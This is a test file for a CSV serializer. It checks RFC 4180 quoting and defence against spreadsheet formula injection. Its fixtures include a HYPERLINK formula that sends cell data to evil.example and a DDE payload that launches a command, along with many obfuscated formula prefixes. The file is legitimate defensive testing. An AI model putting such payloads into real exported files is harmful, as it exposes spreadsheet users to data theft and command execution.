import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvHead, csvLine } from '../../../src/http/wire/csv.ts';

/** Reads one line of CSV as RFC 4180 has it. */
function readLine(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true);
  const cells = [...`,${line.slice(0, -2)}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",]*))/g)];
  return cells.map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '');
}

describe('a line of CSV', () => {
  test('is as RFC 4180 has it', () => {
    const cells = ['plain', 'a "word"', 'one, two', 'line\r\nbreak', null, 7];
    expect(csvLine(cells)).toBe('plain,"a ""word""","one, two","line\r\nbreak",,7\r\n');
  });

  test('is read back as it was written, whatever is in it but formulas', () => {
    const harmless = fc
      .string({ unit: 'grapheme' })
      .filter((text) => !/[-=+@＝＋－＠﹦﹢﹣﹫]|^[\t\r\n]/.test(text));
    fc.assert(
      fc.property(fc.array(harmless, { minLength: 2, maxLength: 6 }), (cells) => {
        expect(readLine(csvLine(cells))).toEqual(cells);
      }),
    );
  });

  test('of a file’s head starts with the mark by which spreadsheets know UTF-8', () => {
    expect(csvHead(['id', 'user'])).toBe('\ufeffid,user\r\n');
  });
});

describe('a cell that a spreadsheet might run', () => {
  test.each([
    ...['=1+1', '+1', '-1', '@SUM(A1)', '\t', '\r', '\tx', '\rx'],
    ...['＝1+1', '＋1', '－1', '＠SUM(A1)', '﹦1', '\u3000＝1'],
    ...[' =1', '   +1', '\u00a0=1', '\u200b=1', '\ufeff=1', '\u0001=1'],
    ...['"=1', "'=1", '""=1', '“=1', ' "=1', '\u3000"＝1'],
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '=cmd|" /C calc"!A0',
  ])('begins with an apostrophe: %j', (cell) => {
    const [read] = readLine(csvLine([cell, 'x']));
    expect(read).toBe(`'${cell}`);
  });

  test.each([
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['x;=1+1', "x;'=1+1"],
    ['x\t=1', "x\t'=1"],
    ['x, =1', "x,' =1"],
    ['x\n=1', "x\n'=1"],
    ['x;"=1', 'x;\'"=1'],
    ['x|＝1', "x|'＝1"],
  ])('is made text also where another separator would begin it: %j', (cell, safe) => {
    expect(readLine(csvLine([cell, 'x']))[0]).toBe(safe);
  });

  test.each([
    'a=b',
    'u-1',
    'ada+x@example.com',
    'sha256:00',
    '2026-11-22T09:00:00.000Z',
    'en-GB',
    '1-2; 3-4',
  ])('is none: %j', (cell) => {
    expect(readLine(csvLine([cell, 'x']))[0]).toBe(cell);
  });

  test('never begins a cell, whatever separates them', () => {
    const parts = fc.constantFrom(
      '=',
      '＝',
      '+',
      '-',
      '@',
      ';',
      ',',
      '\t',
      '|',
      '\n',
      '"',
      "'",
      ' ',
      'a',
      '1',
    );
    fc.assert(
      fc.property(
        fc.array(parts, { maxLength: 12 }).map((some) => some.join('')),
        (cell) => {
          const line = csvLine([cell, 'x']);
          for (const piece of line.slice(0, -2).split(/[;,|\t\r\n]/)) {
            expect(piece).not.toMatch(/^[\s"]*[=+\-@＝]/);
          }
        },
      ),
      { numRuns: 2000 },
    );
  });
});
